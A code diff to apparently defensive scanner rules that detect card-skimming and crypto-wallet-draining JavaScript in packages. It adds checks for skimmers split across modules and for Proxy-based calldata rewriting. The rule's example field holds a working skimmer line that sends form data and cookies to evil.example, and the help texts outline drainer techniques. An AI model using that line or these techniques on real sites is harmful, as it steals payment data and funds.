@@ -20,10 +20,11 @@ type FormSkimmer struct{}
 // Meta implements analyze.Rule.
 func (FormSkimmer) Meta() analyze.Meta {
 	return analyze.Meta{
-		ID: "browser/form-skimmer", Version: 4, Title: "Skims form fields and cookies",
+		ID: "browser/form-skimmer", Version: 5, Title: "Skims form fields and cookies",
 		Help: "Code picks payment card fields out of the page's forms (cc-number, cvv, input[name*=card]…) on submit, or reads every form's " +
 			"fields (document.forms) together with document.cookie, and sends them to a hard-coded external URL (the URL given to fetch, XHR, " +
-			"sendBeacon, a WebSocket or an HTTP client, or set as an Image's source; a link elsewhere in the file does not count). This is a Magecart-style card skimmer: critical with card fields; medium for forms and cookies " +
+			"sendBeacon, a WebSocket or an HTTP client, or set as an Image's source; a link elsewhere in the file does not count), itself or through a small module of the package that loads it and sends. " +
+			"This is a Magecart-style card skimmer: critical with card fields; medium for forms and cookies " +
 			"alone, which form-analytics and session-replay SDKs also read.",
 		Remediation:     "Remove the package from any site build immediately.",
 		Example:         `document.forms[0].addEventListener("submit", () => { new Image().src = "https://evil.example/c?d=" + btoa(data + document.cookie) })`,
@@ -84,6 +85,13 @@ func (FormSkimmer) Check(ctx context.Context, t *analyze.Target, r analyze.Repor
 		// where a request or an image goes, not any link in the file (a
 		// session recorder's masking rules sit next to its docs links)
 		dest, _, _ := externalDest(t, f.Facts)
+		if dest == "" && card != nil && !f.Facts.Bundle() && f.Facts.Size < rulekit.ModuleSize {
+			// the fields kept by this module, sent by a small module
+			// that loads it (a skimmer split into observer and beacon)
+			if g, d := importingSender(ctx, t, f.Name); d != "" {
+				dest = d + " (from " + g + ")"
+			}
+		}
 		if dest == "" {
 			continue
 		}
@@ -99,15 +107,35 @@ func (FormSkimmer) Check(ctx context.Context, t *analyze.Target, r analyze.Repor
 	return nil
 }
 
+// importingSender returns a small module of the package that loads
+// name and sends to a hard-coded external URL (externalDest), with the
+// URL; "" if none.
+func importingSender(ctx context.Context, t *analyze.Target, name string) (string, string) {
+	for _, g := range rulekit.Code(ctx, t) {
+		if g.Name == name || g.Facts.Bundle() || g.Facts.Size >= rulekit.ModuleSize {
+			continue
+		}
+		if !slices.ContainsFunc(g.Facts.Imports, func(im jsast.Import) bool { return t.Resolve(g.Name, im.Module) == name }) {
+			continue
+		}
+		if d, _, _ := externalDest(t, g.Facts); d != "" {
+			return g.Name, d
+		}
+	}
+	return "", ""
+}
+
 // WalletHijack flags hooks on wallet/network APIs combined with address patterns.
 type WalletHijack struct{}
 
 // Meta implements analyze.Rule.
 func (WalletHijack) Meta() analyze.Meta {
 	return analyze.Meta{
-		ID: "browser/wallet-hijack", Version: 7, Title: "Hijacks crypto wallet traffic",
+		ID: "browser/wallet-hijack", Version: 8, Title: "Hijacks crypto wallet traffic",
 		Help: "Code sets a wallet transaction's recipient to a constant address (tx.to = \"0x…\" where it handles eth_sendTransaction; the " +
-			"zero address, a library's default, does not count), or " +
+			"zero address, a library's default, does not count), or wraps the wallet provider in a Proxy whose request handler sees " +
+			"eth_sendTransaction in a small file holding the selector of an ERC-20 approve, transfer or transferFrom (or setApprovalForAll): " +
+			"the calldata of the user's transactions rewritten to hand tokens over, or " +
 			"replaces fetch, XMLHttpRequest or window.ethereum (an assignment or Object.defineProperty), or rewrites the clipboard after reading it (a " +
 			"\"copy address\" button only writes), and contains several crypto-address " +
 			"patterns (Bitcoin, Ethereum, Solana, Tron...), or one pattern plus a hard-coded wallet address to put in its place (in a " +
@@ -255,6 +283,12 @@ func (WalletHijack) Check(ctx context.Context, t *analyze.Target, r analyze.Repo
 				Evidence: rulekit.Ev(a.Snippet.String(), a.Value, "")})
 			continue
 		}
+		if c, sel := calldataRewrite(f.Facts); c != nil {
+			r.Report(analyze.Instance{File: f.Name, Line: c.Pos.Line, Confidence: finding.ConfidenceMedium,
+				Message:  "wraps the wallet provider in a Proxy where it handles eth_sendTransaction and builds ERC-20 " + sel + " calls: transactions the user signs can be rewritten",
+				Evidence: rulekit.Ev(c.Snippet.String(), sel, "")})
+			continue
+		}
 		if hook == "" {
 			continue
 		}
@@ -330,6 +364,45 @@ func clipboardTable(t *analyze.Target, f rulekit.File) (reads, writes bool) {
 // rewritten returns an assignment of a constant wallet address to a
 // transaction's recipient (tx.to = "0x…", params[0].to = DEST) in a file
 // that handles eth_sendTransaction or eth_signTransaction; nil if none.
+// erc20Selectors are the function selectors of the ERC-20 and ERC-721
+// calls that hand over tokens or the right to spend them.
+var erc20Selectors = map[string]string{"0x095ea7b3": "approve", "0xa9059cbb": "transfer", "0x23b872dd": "transferFrom",
+	"0x39509351": "increaseAllowance", "0xa22cb465": "setApprovalForAll"}
+
+// calldataRewrite returns the Proxy a small file wraps around something
+// whose request it intercepts where it handles eth_sendTransaction, next
+// to the selector of a call that hands over tokens, with that call's
+// name: a drainer rewriting the transactions passing through the wallet
+// provider. A debug logger's Proxy has no selectors; a DeFi SDK building
+// an approval sends its own transaction, with no Proxy. nil if none.
+func calldataRewrite(f *jsast.Facts) (*jsast.Call, string) {
+	if f.Bundle() || f.Size >= rulekit.ModuleSize {
+		return nil, ""
+	}
+	sel, send, request := "", false, false
+	for _, s := range f.Strings {
+		switch s.Value {
+		case "eth_sendTransaction", "eth_signTransaction":
+			send = true
+		case "request":
+			request = true
+		default:
+			if n, ok := erc20Selectors[strings.ToLower(s.Value)]; ok && sel == "" {
+				sel = n
+			}
+		}
+	}
+	if sel == "" || !send || !request {
+		return nil, ""
+	}
+	for i := range f.Calls {
+		if c := &f.Calls[i]; c.Callee == "Proxy" && len(c.Args) == 2 {
+			return c, sel
+		}
+	}
+	return nil, ""
+}
+
 func rewritten(f *jsast.Facts) *jsast.Assign {
 	var a *jsast.Assign
 	for i := range f.Assigns {
